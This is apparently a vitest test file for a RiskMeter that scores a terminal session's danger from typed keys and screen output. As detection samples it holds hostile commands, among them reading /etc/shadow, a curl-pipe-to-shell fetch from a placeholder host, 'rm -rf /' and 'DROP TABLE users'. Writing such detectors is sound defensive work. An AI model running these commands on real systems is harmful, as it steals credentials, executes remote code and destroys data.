import { describe, expect, it } from 'vitest';
import { RiskMeter } from './risk';

describe('the risk meter', () => {
  it('says why, newest first, and counts a cause once', () => {
    const meter = new RiskMeter('db-7');
    expect(meter.level).toBe('low');
    expect(meter.typed('sudo su -\r', 1)).toBe(true);
    expect(meter.typed('cat /etc/shadow\r', 2)).toBe(true);
    expect(meter.typed('cat /etc/shadow\r', 3)).toBe(false);
    expect(meter.causes).toEqual(['cat /etc/shadow on db-7', 'sudo su - on db-7']);
    expect([meter.score, meter.level]).toEqual([65, 'high']);
    meter.typed('curl -s http://x/y | sh\r', 4);
    expect(meter.level).toBe('critical');
  });

  it('reads what was meant when keys were taken back', () => {
    const meter = new RiskMeter('a');
    for (const key of ['r', 'm', ' ', '-', 'x', '\x7f', 'r', 'f', ' ', '/', '\r']) meter.typed(key, 1);
    expect(meter.causes).toEqual(['rm -rf / on a']);
  });

  it('sees a command on the screen through colours', () => {
    const meter = new RiskMeter('a');
    expect(meter.printed('$ \x1b[1mDROP\x1b[0m TABLE users;', 1)).toBe(true);
    expect(meter.printed('an ordinary line of output', 1)).toBe(false);
    expect(meter.printed('-rw-r--r-- 1 root root 3040 May 25 2023 adduser.conf\r\n', 1)).toBe(false);
    expect(meter.printed('alice@demo-1:~$ rm -rf /srv/data\r\n', 1)).toBe(true);
  });

  it('forgets after half an hour', () => {
    const meter = new RiskMeter('a');
    meter.typed('sudo -i\r', 0);
    expect(meter.fade(1_700_000)).toBe(false);
    expect(meter.fade(1_900_000)).toBe(true);
    expect(meter.score).toBe(0);
  });
});
